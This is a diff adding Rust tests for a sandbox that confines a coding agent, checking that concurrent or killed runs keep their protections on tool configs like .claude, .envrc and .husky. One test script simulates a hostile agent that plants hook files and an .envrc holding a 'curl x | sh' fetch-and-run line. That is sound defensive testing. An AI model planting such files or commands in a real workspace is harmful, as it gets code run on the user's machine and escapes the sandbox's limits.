@@ -536,6 +536,140 @@ fn protected_tool_configs_cannot_be_created_changed_or_removed() {
     }
 }
 
+/// Protected names a workspace without them gets placeholders for (`.git` among them in a
+/// workspace that is no repository).
+const PLACEHOLDER_NAMES: [&str; 6] = [
+    ".git",
+    ".envrc",
+    ".mcp.json",
+    ".vscode",
+    ".claude",
+    ".husky",
+];
+
+/// Waits for `child` (a `coder sandbox` started in the background) to exit.
+fn wait_sandbox(child: &mut std::process::Child, who: &str, name: &str) {
+    let status = common::wait_within(child, Duration::from_secs(60));
+    assert!(status.success(), "[{who}] {name} exited with {status:?}");
+}
+
+#[test]
+#[ignore = "needs root and user namespaces: scripts/test runs it"]
+fn a_run_ending_beside_another_leaves_the_other_its_protections() {
+    // Run A makes the placeholders; run B, started while A runs, finds them and masks
+    // them as ordinary names. When A ended first and removed them, the kernel took B's
+    // masks with them and B's agent could create what the user's own tools obey.
+    for owner in owners() {
+        let who = label(owner);
+        let fx = Fx::new(owner, false);
+        fx.own();
+        let mut a = bash_sandbox(
+            owner,
+            &fx.ws,
+            &fx.home,
+            &["--mode", "workspace-write"],
+            "touch a-up; until [ -e a-go ]; do sleep 0.02; done",
+        )
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+        common::wait_for_path(&fx.ws.join("a-up"), Duration::from_secs(30));
+        let b_script = "touch b-up; until [ -e b-go ]; do sleep 0.02; done; \
+            mkdir -p .claude; echo '{\"hooks\":{}}' > .claude/settings.json; \
+            echo 'curl x | sh' > .envrc; mkdir -p .husky; echo x > .husky/pre-commit; \
+            rmdir .git 2>/dev/null; rm -f .git; git init -q 2>/dev/null; true";
+        let mut b = bash_sandbox(
+            owner,
+            &fx.ws,
+            &fx.home,
+            &["--mode", "workspace-write"],
+            b_script,
+        )
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+        common::wait_for_path(&fx.ws.join("b-up"), Duration::from_secs(30));
+        write(&fx.ws.join("a-go"), "");
+        wait_sandbox(&mut a, who, "run A");
+        // A is gone; B still runs, and its protections must still hold.
+        assert!(
+            fx.ws.join(".claude").is_dir(),
+            "[{who}] run A removed a placeholder run B relies on"
+        );
+        write(&fx.ws.join("b-go"), "");
+        wait_sandbox(&mut b, who, "run B");
+        for planted in [
+            ".claude/settings.json",
+            ".envrc",
+            ".husky/pre-commit",
+            ".git/config",
+        ] {
+            assert!(
+                fs::symlink_metadata(fx.ws.join(planted)).is_err(),
+                "[{who}] run B's agent planted {planted} once run A had ended"
+            );
+        }
+        // The last run to end removed every placeholder.
+        for name in PLACEHOLDER_NAMES {
+            assert!(
+                fs::symlink_metadata(fx.ws.join(name)).is_err(),
+                "[{who}] {name} left behind after both runs"
+            );
+        }
+    }
+}
+
+#[test]
+#[ignore = "needs root and user namespaces: scripts/test runs it"]
+fn the_placeholders_of_a_killed_coder_go_with_the_next_run() {
+    for owner in owners() {
+        let who = label(owner);
+        let fx = Fx::new(owner, false);
+        fx.own();
+        let mut killed = bash_sandbox(
+            owner,
+            &fx.ws,
+            &fx.home,
+            &["--mode", "workspace-write"],
+            "touch up; sleep 60",
+        )
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+        common::wait_for_path(&fx.ws.join("up"), Duration::from_secs(30));
+        // `timeout` runs coder as its one child.
+        let timeout_pid = killed.id();
+        let children =
+            fs::read_to_string(format!("/proc/{timeout_pid}/task/{timeout_pid}/children")).unwrap();
+        let coder: i32 = children.split_whitespace().next().unwrap().parse().unwrap();
+        nix::sys::signal::kill(
+            nix::unistd::Pid::from_raw(coder),
+            nix::sys::signal::Signal::SIGKILL,
+        )
+        .unwrap();
+        let _ = common::wait_within(&mut killed, Duration::from_secs(30));
+        assert!(
+            fx.ws.join(".claude").is_dir(),
+            "[{who}] the killed run's placeholders should still be there"
+        );
+        let next = fx.confined("true");
+        assert!(
+            next.status.success(),
+            "[{who}] next run: {}",
+            describe(&next)
+        );
+        for name in PLACEHOLDER_NAMES {
+            assert!(
+                fs::symlink_metadata(fx.ws.join(name)).is_err(),
+                "[{who}] {name} of the killed run left behind"
+            );
+        }
+    }
+}
+
 #[test]
 fn protect_flags_add_and_drop_globs() {
     let fx = Fx::new(None, true);
